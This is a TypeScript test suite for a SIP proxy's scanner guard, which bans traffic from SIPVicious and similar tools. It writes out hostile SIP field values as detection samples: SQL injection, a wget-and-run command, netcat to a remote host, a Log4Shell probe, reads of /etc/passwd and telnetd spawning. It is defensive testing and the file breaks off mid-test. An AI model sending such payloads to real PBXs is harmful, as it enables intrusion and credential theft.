import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createSocket, type RemoteInfo, type Socket } from 'node:dgram';
import { readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { loadConfigFromString } from '../../src/config/index.js';
import type { Source, Verdict } from '../../src/core/verdict.js';
import { BanPolicy } from '../../src/guards/ban-policy.js';
import type { GuardReplyConfig } from '../../src/guards/config.js';
import { DEFAULT_SCANNER_USER_AGENTS, type ScannerConfig } from '../../src/guards/scanner/config.js';
import { inspectName } from '../../src/guards/scanner/injection.js';
import { PatternMatcher, patternError } from '../../src/guards/scanner/patterns.js';
import { ScannerGuard, type ScannerIdentity } from '../../src/guards/scanner/scanner.js';
import { parseMessage, type SipMessage } from '../../src/sip/index.js';
import { loadCorpus, PROJECT_ROOT } from '../helpers/corpus.js';
import { fuzzSeed, mutatedMessages } from '../helpers/fuzz.js';
import { EXTRA_SEEDS, raw, request, response } from '../helpers/messages.js';
import { bye, invite, ok200, options, REAL_USER_AGENTS, register } from '../helpers/phones.js';
import { start } from '../helpers/process.js';

const ATTACKS = join(PROJECT_ROOT, 'test/fixtures/attacks');
const ATTACKER: Source = { transport: 'udp', address: '198.51.100.66', port: 5060, family: 4 };
const PHONE: Source = { transport: 'udp', address: '198.51.100.23', port: 41874, family: 4 };

/** sipwarden listens on 127.4.0.1 and 203.0.113.10 (advertised); the PBX network 10.30.0.0/16 is trusted. */
const IDENTITY: ScannerIdentity = {
  isOwnHost: (host) => host === '127.4.0.1' || host === '203.0.113.10',
  isTrusted: (address) => address.startsWith('10.30.'),
};

/** The scanner configuration as the loader normalises it from YAML (`guards:` section). */
function configured(guardsYaml = ''): { scanner: ScannerConfig; reply: GuardReplyConfig } {
  const text = [
    'listen: [udp://127.4.0.1:17400]',
    'upstreams:',
    '  - name: pbx',
    '    targets: [udp://10.30.0.2:5060]',
    '    ping: false',
    guardsYaml,
  ].join('\n');
  const config = loadConfigFromString(text, 'scanner-test.yaml', {}, { cwd: tmpdir(), env: {} });
  return { scanner: config.guards.scanner, reply: config.guards.reply };
}

function guardWith(guardsYaml = '', maxSources?: number): ScannerGuard {
  const { scanner, reply } = configured(guardsYaml);
  return new ScannerGuard(scanner, reply, IDENTITY, BanPolicy.DEFAULT.keys, maxSources);
}

const DEFAULT = configured();

function parse(data: Buffer): SipMessage {
  return parseMessage(data);
}

function check(g: ScannerGuard, data: Buffer, source: Source = ATTACKER, now = 1_000_000): Verdict {
  return g.checkMessage(parse(data), source, now);
}

function assertVerdict(v: Verdict, action: Verdict['action'], rule: string): void {
  assert.equal(v.action, action, JSON.stringify(v));
  if (v.action !== 'pass' && v.action !== 'accept') assert.equal(v.rule, rule, JSON.stringify(v));
}

function assertBan(v: Verdict, rule: string): void {
  assertVerdict(v, 'ban', rule);
  if (v.action !== 'ban') return;
  assert.equal(v.duration, DEFAULT.scanner.ban);
  assert.equal(v.reason, `scanner: ${rule}`);
  assert.equal(v.target, undefined, 'the source address is banned');
}

const reg = (headers: Record<string, string | string[] | null>) =>
  request(headers, { method: 'REGISTER', startLine: 'REGISTER sip:pbx.example.com SIP/2.0' });

const digest = (username: string) =>
  `Digest username="${username}", realm="asterisk", nonce="1a2b", uri="sip:pbx.example.com", response="0123456789abcdef0123456789abcdef"`;

describe('scanner guard: SIPVicious captures (test/fixtures/attacks)', () => {
  const fixtures = readdirSync(ATTACKS).filter((f) => f.endsWith('.sip'));

  it('holds svmap, svwar and svcrack messages', () => {
    for (const prefix of ['svmap-', 'svwar-', 'svcrack-'])
      assert.ok(
        fixtures.some((f) => f.startsWith(prefix)),
        prefix,
      );
  });

  for (const file of fixtures) {
    it(`${file}: banned on the first message`, () => {
      const g = guardWith();
      assertBan(check(g, readFileSync(join(ATTACKS, file))), 'user-agent');
    });
  }

  it('svmap with another User-Agent is still known by its From display name "sipvicious"', () => {
    const text = readFileSync(join(ATTACKS, 'svmap-options.sip'), 'latin1').replace('friendly-scanner', 'Asterisk PBX');
    const v = check(guardWith(), Buffer.from(text, 'latin1'));
    assertBan(v, 'user-agent');
    assert.match(v.action === 'ban' ? (v.detail ?? '') : '', /From display name/);
  });
});

describe('scanner guard: SIPVicious live (svmap, svwar, svcrack against a UDP socket on 127.4.0.x)', () => {
  const installed = ['svmap', 'svwar', 'svcrack'].every((tool) => {
    try {
      execFileSync('which', [tool], { stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  });
  const skip = installed
    ? false
    : 'SIPVicious is not installed (Debian package sipvicious): svmap/svwar/svcrack not found';

  /**
   * A UDP listener standing in for a PBX: records every datagram and answers requests the
   * way a registrar does (404 for an unknown extension, 401 with a challenge to a REGISTER
   * without credentials, 403 to one with), so the tools get past their first message.
   */
  function fakePbx(address: string, port: number): Promise<{ socket: Socket; received: Buffer[] }> {
    const received: Buffer[] = [];
    const socket = createSocket('udp4');
    socket.on('message', (data: Buffer, from: RemoteInfo) => {
      received.push(data);
      const text = data.toString('latin1');
      const lines = text.split('\r\n');
      if (/^ACK /.test(lines[0] ?? '') || /^SIP\//.test(lines[0] ?? '')) return;
      const pick = (re: RegExp) => lines.filter((l) => re.test(l));
      const headers = [
        ...pick(/^via:/i),
        ...pick(/^from:/i),
        ...pick(/^to:/i).map((l) => `${l};tag=pbx1`),
        ...pick(/^call-id:/i),
        ...pick(/^cseq:/i),
      ];
      let status = '404 Not Found';
      if (/^REGISTER /.test(text)) {
        if (/^authorization:/im.test(text)) status = '403 Forbidden';
        else {
          status = '401 Unauthorized';
          headers.push('WWW-Authenticate: Digest realm="asterisk", nonce="5b1f2c3d", algorithm=MD5');
        }
      }
      socket.send(`SIP/2.0 ${status}\r\n${headers.join('\r\n')}\r\nContent-Length: 0\r\n\r\n`, from.port, from.address);
    });
    return new Promise((resolve, reject) => {
      socket.once('error', reject);
      socket.bind(port, address, () => resolve({ socket, received }));
    });
  }

  async function runTool(tool: string, args: string[], address: string, port: number): Promise<Buffer[]> {
    const pbx = await fakePbx(address, port);
    try {
      const run = start(tool, args);
      const timer = setTimeout(() => run.signal('SIGKILL'), 30_000);
      await run.exited;
      clearTimeout(timer);
      assert.ok(pbx.received.length > 0, `${tool} sent nothing; output:\n${run.output()}`);
      return pbx.received;
    } finally {
      pbx.socket.close();
    }
  }

  /** Every request the tool sent, parsed; the first one must be flagged by a fresh guard. */
  function assertFirstFlagged(messages: Buffer[]): SipMessage[] {
    const parsed = messages.map((m) => parseMessage(m));
    const g = guardWith();
    const source: Source = { transport: 'udp', address: '127.0.0.1', port: 5060, family: 4 };
    assertBan(g.checkMessage(parsed[0]!, source, Date.now()), 'user-agent');
    for (const msg of parsed) assert.equal(guardWith().checkMessage(msg, source, Date.now()).action, 'ban');
    return parsed;
  }

  it('svmap: its OPTIONS is banned on the first message', { skip }, async () => {
    const sent = await runTool('svmap', ['127.4.0.1', '-p', '17410'], '127.4.0.1', 17410);
    const [first] = assertFirstFlagged(sent);
    assert.equal(first!.method, 'OPTIONS');
  });

  it('svwar: every INVITE it sends is banned, the first already', { skip }, async () => {
    const sent = await runTool('svwar', ['-e100-102', '-m', 'INVITE', '127.4.0.2', '-p', '17411'], '127.4.0.2', 17411);
    const parsed = assertFirstFlagged(sent);
    const users = parsed.filter((m) => m.method === 'INVITE').map((m) => m.requestUri.user);
    for (const ext of ['100', '101', '102'])
      assert.ok(users.includes(ext), `INVITE to ${ext} (sent: ${users.join(', ')})`);
  });

  it('svcrack: its REGISTER with Authorization is banned, as is the first REGISTER', { skip }, async () => {
    const sent = await runTool(
      'svcrack',
      ['-u', '100', '-r', '1000-1005', '127.4.0.3', '-p', '17412'],
      '127.4.0.3',
      17412,
    );
    const parsed = assertFirstFlagged(sent);
    const withAuth = parsed.filter((m) => m.method === 'REGISTER' && m.authorization !== undefined);
    assert.ok(withAuth.length > 0, 'svcrack answered the challenge');
    assert.equal(withAuth[0]!.authorization!.username, '100');
  });
});

describe('scanner guard: user_agent', () => {
  const tools = [
    'friendly-scanner',
    'sipcli/v1.8',
    'VaxSIPUserAgent/3.1',
    'sundayddr',
    'pplsip',
    'sipsak 0.9.6',
    'SIVuS',
    'Nmap NSE',
    'sip-scan',
  ];
  for (const ua of tools) {
    it(`User-Agent "${ua}" is banned`, () => assertBan(check(guardWith(), options({ userAgent: ua })), 'user-agent'));
  }

  it('matches case-insensitively and anywhere in the value', () => {
    assertBan(check(guardWith(), options({ userAgent: 'Mozilla FRIENDLY-Scanner/2' })), 'user-agent');
  });

  it('reads Server in responses, User-Agent in requests', () => {
    assertBan(check(guardWith(), ok200({ server: 'friendly-scanner' })), 'user-agent');
    const serverInRequest = request({ Server: 'friendly-scanner', 'User-Agent': 'Yealink SIP-T46S 66.86.0.15' });
    assert.equal(check(guardWith(), serverInRequest).action, 'pass');
  });

  it('the ban reason carries no attacker text; the detail is bounded', () => {
    const ua = `friendly-scanner ${'A'.repeat(6000)}`;
    const v = check(guardWith(), options({ userAgent: ua }));
    assert.ok(v.action === 'ban');
    assert.equal(v.reason, 'scanner: user-agent');
    assert.ok((v.detail ?? '').length < 250, `detail is ${(v.detail ?? '').length} characters`);
  });

  it('/regex/ patterns, case-insensitive', () => {
    const g = guardWith('guards:\n  scanner:\n    user_agents: ["/^evil[0-9]+$/", "bad-tool"]');
    assertBan(check(g, options({ userAgent: 'EVIL42' })), 'user-agent');
    assert.equal(check(g, options({ userAgent: 'not evil42' })).action, 'pass');
    assertBan(check(g, options({ userAgent: 'a Bad-Tool b' })), 'user-agent');
    assert.equal(check(g, options({ userAgent: 'friendly-scanner' })).action, 'pass', 'the list replaces the defaults');
  });

  it('a pattern that does not compile is refused when the guard is built', () => {
    assert.match(patternError('/([a-z/') ?? '', /not a valid regular expression/);
    assert.equal(patternError('/^ok$/'), undefined);
    assert.throws(() => guardWith('guards:\n  scanner:\n    user_agents: ["/([a-z/"]'), /\/\(\[a-z\//);
  });
});

describe('scanner guard: real phones are not flagged (default configuration)', () => {
  // Default patterns that match real products (see the scanner report): left out here
  // until the defaults drop them, and shown below.
  const WEAK = new Set(['fpbx']);
  const strong = DEFAULT_SCANNER_USER_AGENTS.filter((p) => !WEAK.has(p));
  const yaml = `guards:\n  scanner:\n    user_agents: ${JSON.stringify(strong)}`;

  it('User-Agents of phones, softphones and PBXs on INVITE, REGISTER, OPTIONS and BYE', () => {
    const g = guardWith(yaml);
    for (const ua of REAL_USER_AGENTS) {
      for (const build of [invite, register, options, bye]) {
        const v = check(g, build({ userAgent: ua }), PHONE);
        assert.deepEqual(v, { action: 'pass' }, `${build.name} from ${ua}`);
      }
      assert.deepEqual(check(g, ok200({ server: ua }), PHONE), { action: 'pass' }, `200 OK from ${ua}`);
    }
  });

  it('user names with dots, dashes, plus signs, +49 numbers, telephone-subscriber parameters, IPv6', () => {
    const g = guardWith(yaml);
    const users = [
      'first.last',
      'j.doe-2003',
      'alice+home',
      '+4930123456789',
      '+1-212-555-0123',
      '5551234;phone-context=+1212',
      '2001;ext=12',
      'alice&bob',
      "o'brien",
      "d'orsay",
      "o'rourke",
      "l'or",
      'user%40example.com',
    ];
    for (const user of users) {
      const data = request(
        {
          From: `"Seán O'Brien" <sip:${user}@pbx.example.com>;tag=1`,
          To: `<sip:${user}@pbx.example.com>`,
          Authorization: digest(user.replace(/%40/, '@')),
        },
        { method: 'INVITE', startLine: `INVITE sip:${user}@pbx.example.com SIP/2.0` },
      );
      assert.deepEqual(check(g, data, PHONE), { action: 'pass' }, user);
    }
    assert.deepEqual(check(g, options(), PHONE), { action: 'pass' }, 'IPv6 Via and Contact');
  });

  it('shown: "fpbx" matches FreePBX, whose trunks register with User-Agent FPBX-<version>', () => {
    assert.notEqual(new PatternMatcher(['fpbx']).matchString('FPBX-16.0.40(18.20.0)'), -1);
  });
});

describe('scanner guard: sql_injection', () => {
  // Samples: Smartvox's captures of From headers from the wild (typographic quotes included),
  // classic digest-username injections, and encoded forms.
  const cases: Array<[string, Buffer]> = [
    [
      "From <sip:' or 1=1--@;transport=UDP> (does not decode)",
      request({ From: "<sip:' or 1=1--@;transport=UDP>;tag=1" }),
    ],
    ["From <sip:a'or'3=3--@...>", request({ From: "<sip:a'or'3=3--@pbx.example.com>;tag=1" })],
    ['From with typographic quotes ‘or‘a’=’a', request({ From: '<sip:‘or‘a’=’a@pbx.example.com>;tag=1' })],
    ["From <sip:'or''='@...>", request({ From: "<sip:'or''='@pbx.example.com>;tag=1" })],
    ["digest username 100' or '1'='1", reg({ Authorization: digest("100' or '1'='1") })],
    ["digest username admin'-- in Proxy-Authorization", reg({ 'Proxy-Authorization': digest("admin'--") })],
    [
      'digest username 1 union select password from users',
      reg({ Authorization: digest('1 union select password from users') }),
    ],
    [
      'digest username with an escaped double quote 100\\" or \\"1',
      reg({ Authorization: digest('100\\" or \\"1\\"=\\"1') }),
    ],
    [
      'Request-URI user percent-encoded %27%20OR%201%3D1--',
      request({}, { startLine: 'OPTIONS sip:%27%20OR%201%3D1--@pbx.example.com SIP/2.0' }),
    ],
    [
      'To user double-encoded %2527%2520or%2520%25271',
      request({ To: '<sip:x%2527%2520or%2520%25271%2527%253D%25271@pbx.example.com>' }),
    ],
    ['To user 1;drop table subscriber', request({ To: '<sip:1;drop%20table%20subscriber@pbx.example.com>' })],
    ['digest username sleep(5)', reg({ Authorization: digest('1 and sleep(5)') })],
    ['digest username /**/ comment', reg({ Authorization: digest('1/**/union/**/select/**/1') })],
  ];
  for (const [name, data] of cases) {
    it(name, () => assertBan(check(guardWith(), data), 'sql-injection'));
  }
});

describe('scanner guard: nothing hides behind padding (overlong_value, every line read)', () => {
  const pad = 'a'.repeat(512);

  it('SQL injection in the 17th, and the 64th, Proxy-Authorization is banned', () => {
    for (const count of [17, 64]) {
      const lines = Array.from({ length: count - 1 }, (_, i) => digest(`user${i}`));
      const data = reg({ 'Proxy-Authorization': [...lines, digest("admin' or '1'='1")] });
      assertBan(check(guardWith(), data), 'sql-injection');
    }
  });

  it('an injection after 512 characters of padding is refused (digest username, From, To, Request-URI)', () => {
    const cases: Array<[string, Buffer]> = [
      ['digest username', reg({ Authorization: digest(`${pad}' or '1'='1`) })],
      ['From user', request({ From: `<sip:${pad}'or'1'='1@pbx.example.com>;tag=1` })],
      ['To user (does not decode)', request({ To: `<sip:${pad}' or 1=1--@;transport=UDP>` })],
      ['Request-URI user', request({}, { startLine: `OPTIONS sip:${pad}%27%20OR%201%3D1--@pbx.example.com SIP/2.0` })],
    ];
    for (const [where, data] of cases) {
      const v = check(guardWith(), data);
      assertVerdict(v, 'drop', 'overlong-value');
      assert.match(v.action === 'drop' ? (v.detail ?? '') : '', /more than the 512 inspected/, where);
    }
    // An injection inside the first 512 characters still bans as one.
    assertBan(check(guardWith(), reg({ Authorization: digest(`' or '1'='1${pad}`) })), 'sql-injection');
  });

  it('a From that does not decode is read whole, past 1024 characters', () => {
    const v = check(guardWith(), request({ From: `<sip:${'b'.repeat(1100)}' or 1=1--@;transport=UDP>;tag=1` }));
    assertVerdict(v, 'drop', 'overlong-value');
  });

  it('a long name with no character an injection needs passes (nothing in it could be one)', () => {
    assert.equal(
      check(guardWith(), request({ From: `<sip:${'x'.repeat(2000)}@pbx.example.com>;tag=1` })).action,
      'pass',
    );
    assert.equal(check(guardWith(), reg({ Authorization: digest('u'.repeat(1500)) })).action, 'pass');
  });

  it('a second User-Agent line is read too', () => {
    const data = request({ 'User-Agent': ['Yealink SIP-T46S 66.86.0.15', 'friendly-scanner'] });
    assertBan(check(guardWith(), data), 'user-agent');
  });

  it('with a /regex/ pattern, a User-Agent longer than the 1024 octets it reads is refused', () => {
    const g = guardWith('guards:\n  scanner:\n    user_agents: [friendly-scanner, "/^sipcli\\/v[0-9]/"]');
    assertVerdict(check(g, options({ userAgent: `Yealink ${'x'.repeat(1100)}` })), 'drop', 'overlong-value');
    // Substrings are matched on the whole value: the tool's name after the padding is found.
    assertBan(check(g, options({ userAgent: `${'x'.repeat(1100)} friendly-scanner` })), 'user-agent');
    // Without regexes a long User-Agent is matched whole, and passes when clean.
    assert.equal(check(guardWith(), options({ userAgent: `Yealink ${'x'.repeat(1100)}` })).action, 'pass');
  });

  it('an SDP session name is matched on its whole line', () => {
    const body = `v=0\r\no=- 1 1 IN IP4 192.0.2.1\r\ns=${'-'.repeat(300)}sipcli\r\nt=0 0\r\n`;
    assertBan(check(guardWith(), invite({ body })), 'sdp-session-name');
  });
});

describe('scanner guard: shell_metacharacters', () => {
  const cases: Array<[string, Buffer]> = [
    ['To user ;wget ...|sh', request({ To: '<sip:%3Bwget%20http%3A%2F%2F198.51.100.9%2Fx.sh%7Csh@pbx.example.com>' })],
    ['digest username $(reboot)', reg({ Authorization: digest('$(reboot)') })],
    ['digest username `id`', reg({ Authorization: digest('`id`') })],
    [
      'From user $%7Bjndi:ldap...%7D (Log4Shell probes in SIP)',
      request({ From: '<sip:$%7Bjndi:ldap:%2F%2F198.51.100.9%2Fa%7D@pbx.example.com>;tag=1' }),
    ],
    ['Request-URI user 100|sh', request({}, { startLine: 'OPTIONS sip:100%7Csh@pbx.example.com SIP/2.0' })],
    ['digest username 100;cat /etc/passwd', reg({ Authorization: digest('100;cat /etc/passwd') })],
    ['Request-URI user %0a (newline) cat', request({}, { startLine: 'OPTIONS sip:100%0acat@pbx.example.com SIP/2.0' })],
    ['digest username 1>/tmp/x', reg({ Authorization: digest('1>/tmp/x') })],
    ['digest username x && busybox telnetd', reg({ Authorization: digest('x && busybox telnetd') })],
  ];
  for (const [name, data] of cases) {
    it(name, () => assertBan(check(guardWith(), data), 'shell-metacharacters'));
  }

  it('telephone-subscriber parameters are not commands', () => {
    const data = request({ To: '<sip:5551234;phone-context=+1212;isub=1@pbx.example.com;user=phone>' });
    assert.equal(check(guardWith(), data, PHONE).action, 'pass');
  });
});

describe('injection rules (src/guards/scanner/injection.ts)', () => {
  const flagged: Array<[string, 'sql' | 'shell']> = [
    ["' or 1=1--", 'sql'],
    ["a'or'3=3--", 'sql'],
    ["'hi'or'x'='x';", 'sql'],
    ["admin'#", 'sql'],
    ["x');", 'sql'],
    ['1 or 1=1', 'sql'],
    ['1 UNION ALL SELECT 1', 'sql'],
    ['select password from subscriber', 'sql'],
    ['1;waitfor delay', 'sql'],
    ['1 and benchmark(1000000,md5(1))', 'sql'],
    ['1 and @@version', 'sql'],
    ['%27%20or%20%271%27%3D%271', 'sql'],
    ['`reboot`', 'shell'],
    ['$(id)', 'shell'],
    ['a;busybox wget', 'shell'],
    ['a|nc 198.51.100.9 4444', 'shell'],
    ['a&&curl x', 'shell'],
    ['a;/tmp/x', 'shell'],
    ['a 2>&1', 'shell'],
    ['x%0Did', 'shell'],
  ];
  for (const [value, kind] of flagged) {
    it(`${JSON.stringify(value)} is ${kind}`, () => assert.equal(inspectName(value, true, true)?.kind, kind));
  }

  const clean = [
    "o'brien",
    "d'orsay",
    "l'or",
    "it's",
    "Rock 'n' Roll",
    'john-doe',
    'abc--',
    'a|b',
    'tenant|1001',
    'a&&b',
    'x;id=5',
    'alice&bob',
    '5551234;phone-context=+1212',
    'a=b',
    '100%25',
    'Müller',
    'selection',
    'union-station',
    'or 12=13',
  ];
  for (const value of clean) {
    it(`${JSON.stringify(value)} is clean`, () => assert.equal(inspectName(value, true, true), undefined));
  }

  it('a value without a trigger character is cleared without decoding', () => {
    assert.equal(inspectName('first.last-2001+home', true, true), undefined);
  });
});

describe('scanner guard: ip_literal_host', () => {
  it('scores by default: one message never bans', () => {
    const g = guardWith();
    for (let i = 0; i < 20; i++) {
      assert.deepEqual(check(g, request({ From: '<sip:100@1.1.1.1>;tag=1' }), ATTACKER, 1000 + i), { action: 'pass' });
    }
    assert.equal(g.scoredSources, 1);
  });

  it('with an action, From or To with a foreign IP literal (IPv4 or IPv6) fires', () => {
    const g = guardWith('guards:\n  scanner:\n    signals:\n      ip_literal_host: drop');
    assertVerdict(check(g, request({ From: '<sip:100@1.1.1.1>;tag=1' })), 'drop', 'ip-literal-host');
    assertVerdict(check(g, request({ To: '<sip:100@[2001:db8::9]>' })), 'drop', 'ip-literal-host');
  });

  it("sipwarden's own address and trusted addresses are not foreign", () => {
    const g = guardWith('guards:\n  scanner:\n    signals:\n      ip_literal_host: drop');
    assert.equal(check(g, request({ From: '<sip:100@127.4.0.1>;tag=1', To: '<sip:200@10.30.0.2>' })).action, 'pass');
    assert.equal(check(g, response({ From: '<sip:100@1.1.1.1>;tag=1' })).action, 'pass', 'responses echo requests');
  });
});

describe('scanner guard: record_route_spoofing', () => {
  const rr = (value: string) => request({ 'Record-Route': value }, { method: 'INVITE' });

  it('a Record-Route naming sipwarden itself is dropped (default)', () => {
    assertVerdict(check(guardWith(), rr('<sip:127.4.0.1;lr>')), 'drop', 'record-route-spoofing');
    assertVerdict(
      check(guardWith(), rr('<sip:203.0.113.10:5060;lr>, <sip:192.0.2.99;lr>')),
      'drop',
      'record-route-spoofing',
    );
  });

  it('a Record-Route naming a trusted address is dropped', () => {
    assertVerdict(
      check(guardWith(), rr('<sip:192.0.2.99;lr>, <sip:10.30.0.1;lr;ftag=1>')),
      'drop',
      'record-route-spoofing',
    );
  });

  it('other proxies in Record-Route pass; responses carrying our own Record-Route pass', () => {
    // The sender record-routes itself on top (RFC 3261 16.6 step 4); proxies before it below.
    assert.equal(
      check(guardWith(), rr('<sip:198.51.100.23:5060;lr>, <sip:192.0.2.99;lr>, <sip:proxy.example.net;lr>'), PHONE)
        .action,
      'pass',
    );
    assert.equal(check(guardWith(), ok200({ recordRoute: '<sip:127.4.0.1;lr>' }), PHONE).action, 'pass');
  });

  it('reads every Record-Route entry: one naming sipwarden as the 64th is dropped', () => {
    const others = Array.from({ length: 63 }, (_, i) => `<sip:192.0.2.${i + 1};lr>`);
    const data = rr([`<sip:${PHONE.address};lr>`, ...others.slice(1), '<sip:127.4.0.1;lr>'].join(', '));
    assertVerdict(check(guardWith(), data, PHONE), 'drop', 'record-route-spoofing');
  });
});

describe('scanner guard: record_route_foreign and record_route_register', () => {
  const rr = (value: string, method = 'INVITE') =>
    request({ 'Record-Route': value }, { method, startLine: `${method} sip:bob@example.com SIP/2.0` });

  it('a top Record-Route naming another host than the sender is dropped (default)', () => {
    const v = check(guardWith(), rr('<sip:192.0.2.98:5099;lr>'), PHONE);
    assertVerdict(v, 'drop', 'record-route-foreign');
    assert.match(v.action === 'drop' ? (v.detail ?? '') : '', /does not name the sender 198\.51\.100\.23/);
    // Only the top entry must be the sender: one below it is a proxy before it.
    assertVerdict(
      check(guardWith(), rr('<sip:192.0.2.98;lr>, <sip:198.51.100.23;lr>'), PHONE),
      'drop',
      'record-route-foreign',
    );
  });

  it('the sender on top passes, any port, any case, IPv6 and IPv4-mapped sources too', () => {
    assert.equal(check(guardWith(), rr('<sip:198.51.100.23;lr;ftag=a>'), PHONE).action, 'pass');
    assert.equal(check(guardWith(), rr('<sip:trunk@198.51.100.23:5080;transport=tcp;lr>'), PHONE).action, 'pass');
    const v6: Source = { transport: 'udp', address: '2001:db8::7', port: 5060, family: 6 };
    assert.equal(check(guardWith(), rr('<sip:[2001:DB8:0::7]:5060;lr>'), v6).action, 'pass');
    const mapped: Source = { transport: 'udp', address: '::ffff:198.51.100.23', port: 5060, family: 6 };
    assert.equal(check(guardWith(), rr('<sip:198.51.100.23;lr>'), mapped).action, 'pass');
  });

  it('a host name on top is flagged unless listed in record_route_hosts (never resolved)', () => {
    assertVerdict(check(guardWith(), rr('<sip:sbc.carrier.example;lr>'), PHONE), 'drop', 'record-route-foreign');
    const listed = guardWith(
      'guards:\n  scanner:\n    record_route_hosts: [SBC.Carrier.Example, 192.0.2.0/28, "2001:db8:5::/48"]',
    );
    assert.equal(check(listed, rr('<sip:sbc.carrier.example;lr>'), PHONE).action, 'pass');
    assert.equal(check(listed, rr('<sip:sbc.carrier.example.;lr>'), PHONE).action, 'pass');
    assert.equal(check(listed, rr('<sip:192.0.2.9;lr>'), PHONE).action, 'pass');
    assert.equal(check(listed, rr('<sip:[2001:db8:5::1];lr>'), PHONE).action, 'pass');
    assertVerdict(check(listed, rr('<sip:other.carrier.example;lr>'), PHONE), 'drop', 'record-route-foreign');
    assertVerdict(check(listed, rr('<sip:192.0.2.99;lr>'), PHONE), 'drop', 'record-route-foreign');
    assertVerdict(check(listed, rr('<tel:+4930123;lr>'), PHONE), 'drop', 'record-route-foreign');
  });

  it('a Record-Route that does not decode is dropped, not passed unread', () => {
    const v = check(guardWith(), rr('<sip:192.0.2.98;lr>, <'), PHONE);
    assertVerdict(v, 'drop', 'record-route-foreign');
    assertVerdict(
      check(guardWith(), rr(`<sip:${PHONE.address};lr>, <sip:x@[::1;lr>`), PHONE),
      'drop',
      'record-route-foreign',
    );
    assertVerdict(check(guardWith(), rr('<', 'REGISTER'), PHONE), 'drop', 'record-route-register');
  });

  it('any Record-Route on a REGISTER is dropped, even one naming the sender', () => {
    for (const value of ['<sip:127.0.0.98:5099;lr>', '<sip:198.51.100.23;lr>']) {
      const v = check(guardWith(), rr(value, 'REGISTER'), PHONE);
      assertVerdict(v, 'drop', 'record-route-register');
    }
    const off = guardWith('guards:\n  scanner:\n    signals: {record_route_register: off}');
    assert.equal(check(off, rr('<sip:198.51.100.23;lr>', 'REGISTER'), PHONE).action, 'pass');
  });

  it('the actions are configurable; the spoofing signal is reported first among equals', () => {
    const g = guardWith('guards:\n  scanner:\n    signals: {record_route_foreign: ban, record_route_register: reply}');
    assertBan(check(g, rr('<sip:192.0.2.98;lr>'), PHONE), 'record-route-foreign');
    assertVerdict(check(g, rr('<sip:198.51.100.23;lr>', 'REGISTER'), PHONE), 'reply', 'record-route-register');
    assertVerdict(check(guardWith(), rr('<sip:127.4.0.1;lr>'), PHONE), 'drop', 'record-route-spoofing');
    const off = guardWith('guards:\n  scanner:\n    signals: {record_route_foreign: off}');
    assert.equal(check(off, rr('<sip:192.0.2.98;lr>'), PHONE).action, 'pass');
  });

  it('record_route_hosts entries are checked when the configuration loads', () => {
    assert.throws(
      () => configured('guards:\n  scanner:\n    record_route_hosts: ["bad host!"]'),
      /record_route_hosts\[0\]: must be a domain name, an IP address or a network/,
    );
    assert.throws(
      () => configured('guards:\n  scanner:\n    record_route_hosts: ["10.0.0.0/99"]'),
      /record_route_hosts/,
    );
  });
});

describe('scanner guard: sdp_session_name', () => {
  const sdpInvite = (name: string, contentType = 'application/sdp') =>
    request(
      { 'Content-Type': contentType },
      {
        method: 'INVITE',
        body: `v=0\r\no=sipcli-Session 1 1 IN IP4 192.0.2.9\r\ns=${name}\r\nc=IN IP4 192.0.2.9\r\nt=0 0\r\n`,
      },
    );

  it('an SDP session name of a tool is banned', () => {
    assertBan(check(guardWith(), sdpInvite('sipcli')), 'sdp-session-name');
    assertBan(check(guardWith(), sdpInvite('SIPVicious')), 'sdp-session-name');
  });

  it("phones' session names pass; a text body is not SDP", () => {
    for (const name of ['-', 'SDP data', 'Talk', 'Asterisk', 'FreeSWITCH', 'SIP Call', 'pjmedia', 'session']) {
      assert.equal(check(guardWith(), sdpInvite(name), PHONE).action, 'pass', name);
    }
    assert.equal(check(guardWith(), sdpInvite('sipcli', 'text/plain'), PHONE).action, 'pass');
  });
});

describe('scanner guard: actions, strongest wins, score', () => {
  it('drop, reply (with guards.reply; a drop for ACK), honeypot, off', () => {
    const yaml = (action: string) =>
      `guards:\n  reply: {code: 480, reason: Temporarily Unavailable}\n  scanner:\n    signals:\n      user_agent: ${action}`;
    assertVerdict(check(guardWith(yaml('drop')), options({ userAgent: 'friendly-scanner' })), 'drop', 'user-agent');
    const v = check(guardWith(yaml('reply')), options({ userAgent: 'friendly-scanner' }));
    assertVerdict(v, 'reply', 'user-agent');
    assert.deepEqual(v.action === 'reply' ? v.reply : undefined, { code: 480, reason: 'Temporarily Unavailable' });
    const ack = request({ 'User-Agent': 'friendly-scanner' }, { method: 'ACK' });
    assertVerdict(check(guardWith(yaml('reply')), ack), 'drop', 'user-agent');
    assertVerdict(
      check(guardWith(yaml('honeypot')), options({ userAgent: 'friendly-scanner' })),
      'honeypot',
      'user-agent',
    );
    assert.equal(check(guardWith(yaml('off')), options({ userAgent: 'friendly-scanner' })).action, 'pass');
  });

  it('several signals: the strongest action wins (ban > honeypot > reply > drop > score)', () => {
    const yaml = [
      'guards:',
      '  scanner:',
      '    signals:',
      '      user_agent: drop',
      '      ip_literal_host: reply',
      '      sql_injection: honeypot',
      '      record_route_spoofing: score',
    ].join('\n');
    const data = request(
      {
        'User-Agent': 'friendly-scanner',
        From: "<sip:x'or'1'='1@1.1.1.1>;tag=1",
        'Record-Route': '<sip:127.4.0.1;lr>',
      },
      { method: 'INVITE' },
    );
    assertVerdict(check(guardWith(yaml), data), 'honeypot', 'sql-injection');
    const banning = yaml.replace('user_agent: drop', 'user_agent: ban');
    assertBan(check(guardWith(banning), data), 'user-agent');
    const noHoneypot = yaml.replace('sql_injection: honeypot', 'sql_injection: off');
    assertVerdict(check(guardWith(noHoneypot), data), 'reply', 'ip-literal-host');
  });

  it('score: each signal counts once per source per window; reaching the threshold bans (rule score)', () => {
    const yaml = [
      'guards:',
      '  scanner:',
      '    score_threshold: 10',
      '    score_window: 1m',
      '    signals:',
      '      user_agent: {action: score, points: 4}',
      '      ip_literal_host: {action: score, points: 3}',
      '      record_route_spoofing: {action: score, points: 5}',
      '      record_route_foreign: off',
    ].join('\n');
    const g = guardWith(yaml);
    const ua = options({ userAgent: 'friendly-scanner' });
    // One signal repeated: 4 points once, however often.
    for (let i = 0; i < 50; i++) assert.deepEqual(check(g, ua, ATTACKER, 10_000 + i), { action: 'pass' });
    // A second signal: 7.
